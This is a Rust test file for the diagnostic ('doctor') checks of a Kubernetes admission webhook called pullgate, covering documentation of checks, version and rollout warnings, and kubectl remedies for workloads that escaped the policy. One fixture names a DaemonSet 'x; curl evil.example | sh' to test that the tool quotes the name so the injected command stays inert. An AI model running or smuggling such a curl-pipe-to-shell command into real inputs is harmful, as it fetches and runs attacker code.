//! Findings that no test cluster can cause, and what the document says of all.

use std::collections::BTreeSet;

use pullgate::doctor::examine;
use pullgate::doctor::finding::Severity;
use pullgate::doctor::seen::Seen;
use serde_json::{Value, json};

use crate::docs::{code, read, root, tables};

fn checks(seen: &Seen) -> Vec<(&'static str, Severity)> {
    examine(seen).findings.iter().map(|finding| (finding.check, finding.severity)).collect()
}

fn registered(webhooks: &Value) -> Value {
    json!({"metadata": {"name": "pullgate"}, "webhooks": webhooks})
}

#[test]
fn every_check_is_documented_with_how_bad_it_is() {
    let mut known = BTreeSet::new();
    for entry in std::fs::read_dir(root().join("src/doctor")).unwrap() {
        let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
        let product = text.split("#[cfg(test)]").next().unwrap().replace(char::is_whitespace, "");
        known.extend(
            product.split("report.add(\"").skip(1).map(|rest| rest.split('"').next().unwrap().to_owned()),
        );
    }
    let text = read("docs/doctor.md");
    let (_, rows) = tables(&text, "| check | severity |").remove(0);
    let documented: BTreeSet<_> = rows.iter().map(|row| code(row[0]).to_owned()).collect();
    assert_eq!(documented, known);
    assert!(known.len() > 15);
}

#[test]
fn an_api_server_that_is_too_old_is_told() {
    for (version, expected) in
        [("v1.29.4", true), ("v1.30.0", false), ("v1.36.3+k3s1", false), ("v2.0.0", false), ("odd", false)]
    {
        let seen = Seen {
            server: version.to_owned(),
            registration: Some(registered(&json!([{}]))),
            ..Seen::default()
        };
        assert_eq!(checks(&seen).contains(&("versions", Severity::Error)), expected, "{version}");
    }
}

#[test]
fn a_rollout_that_is_not_done_is_told() {
    let deployment = |generation, observed, updated| {
        Some(json!({
            "metadata": {"name": "pullgate", "namespace": "pullgate", "generation": generation},
            "spec": {"replicas": 2}, "status": {"observedGeneration": observed, "updatedReplicas": updated},
        }))
    };
    for (webhook, expected) in
        [(deployment(2, 2, 2), false), (deployment(3, 2, 2), true), (deployment(2, 2, 1), true)]
    {
        let seen = Seen { webhook, ..Seen::default() };
        assert_eq!(checks(&seen).contains(&("versions", Severity::Warning)), expected);
    }
}

#[test]
fn workloads_are_named_by_what_can_be_restarted_and_counted_where_they_are_many() {
    let owner = |kind: &str, name: &str| json!([{"kind": kind, "name": name, "controller": true}]);
    let pod = |name: String, owners: Value| {
        json!({
            "metadata": {
                "namespace": "shop", "name": name, "creationTimestamp": "2026-01-01T00:00:00Z",
                "labels": {"pod-template-hash": "5d4f"}, "ownerReferences": owners,
            },
            "spec": {
                "initContainers": [{"image": "busybox"}],
                "volumes": [{"image": {"reference": "model:1"}}],
            },
        })
    };
    let mut pods = vec![
        pod("web-5d4f-abc".to_owned(), owner("ReplicaSet", "web-5d4f")),
        pod("web-5d4f-def".to_owned(), owner("ReplicaSet", "web-5d4f")),
        pod("db-0".to_owned(), owner("StatefulSet", "db")),
        pod("once-x".to_owned(), owner("Job", "once")),
        pod("hostile-1".to_owned(), owner("DaemonSet", "x; curl evil.example | sh")),
    ];
    pods.extend((0..30).map(|number| pod(format!("bare-{number:02}"), json!([]))));
    let (policy, _) = pullgate::config::load_policy([("REGISTRY".into(), "r.example".into())]).unwrap();
    let webhook = json!({
        "name": "pods", "rules": [{"apiGroups": [""], "operations": ["CREATE"], "resources": ["pods"]}],
        "failurePolicy": "Fail",
    });
    let registration = Some(json!({
        "metadata": {"name": "pullgate", "creationTimestamp": "2026-01-02T00:00:00Z"}, "webhooks": [webhook],
    }));
    let seen = Seen { policy: Some(Ok(policy)), registration, pods, ..Seen::default() };
    let report = examine(&seen);
    let escaped: Vec<_> = report.findings.iter().filter(|finding| finding.check == "escaped").collect();
    assert_eq!(escaped.len(), 21);
    assert!(escaped[20].problem.starts_with("and 14 more workloads"), "{}", escaped[20].problem);
    let mend = |title: &str| {
        let found = escaped.iter().find(|finding| finding.problem.starts_with(title));
        found.map_or("", |finding| finding.mend.as_str())
    };
    assert_eq!(
        mend("Deployment shop/web: 4 images"),
        "kubectl --namespace shop rollout restart deployment/web"
    );
    assert_eq!(mend("Job shop/once: 2 images"), "kubectl --namespace shop delete pod once-x");
    assert_eq!(
        mend("DaemonSet shop/x; curl"),
        "kubectl --namespace shop rollout restart 'daemonset/x; curl evil.example | sh'"
    );
    assert!(mend("Pod shop/bare-00: 2 images").ends_with("kubectl replace --force -f -"));
}
